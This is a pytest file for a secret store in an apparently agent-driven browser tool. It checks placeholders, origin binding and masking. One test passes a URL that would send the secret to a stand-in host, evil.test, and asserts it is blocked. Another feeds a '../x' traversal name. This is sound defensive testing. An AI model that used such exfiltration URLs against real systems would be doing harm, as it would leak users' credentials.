from __future__ import annotations

import pytest

from skillbook.errors import NotAllowed
from skillbook.policy.secrets import MASK, SecretStore

ORIGIN = "https://shop.test"


@pytest.fixture
def store() -> SecretStore:
    return SecretStore({"SKILLBOOK_SECRET_SHOP_PW": "hunter22"}, ask=lambda _: "")


def test_a_placeholder_never_contains_the_value(store: SecretStore) -> None:
    secret = store.add("shop.pw")
    assert secret == "${secret:shop.pw}"
    assert "hunter22" not in repr(secret)


def test_it_is_filled_in_for_typing_only(store: SecretStore) -> None:
    secret = store.add("shop.pw")
    assert store.fill_in({"value": secret}, command="fill", origin=ORIGIN) == {"value": "hunter22"}
    with pytest.raises(NotAllowed):
        store.fill_in({"url": f"https://evil.test/?q={secret}"}, command="goto", origin=ORIGIN)


def test_it_is_bound_to_the_origin_of_its_first_use(store: SecretStore) -> None:
    secret = store.add("shop.pw")
    store.fill_in({"value": secret}, command="fill", origin=ORIGIN)
    with pytest.raises(NotAllowed) as caught:
        store.fill_in({"value": secret}, command="fill", origin="https://evil.test")
    assert "hunter22" not in str(caught.value)


def test_given_origins_bind_at_once(store: SecretStore) -> None:
    secret = store.add("shop.pw", origins={ORIGIN})
    with pytest.raises(NotAllowed):
        store.fill_in({"value": secret}, command="fill", origin="https://evil.test")


def test_unknown_and_empty_secrets_are_refused(store: SecretStore) -> None:
    with pytest.raises(NotAllowed):
        store.fill_in("${secret:nobody}", command="fill", origin=ORIGIN)
    with pytest.raises(NotAllowed):
        store.add("absent")
    with pytest.raises(NotAllowed):
        store.add("../x")


def test_values_are_masked_wherever_they_show(store: SecretStore) -> None:
    store.add("shop.pw")
    data = {"names": ["my hunter22!", "other"], "n": 1}
    assert store.redact_data(data) == {"names": [f"my {MASK}!", "other"], "n": 1}
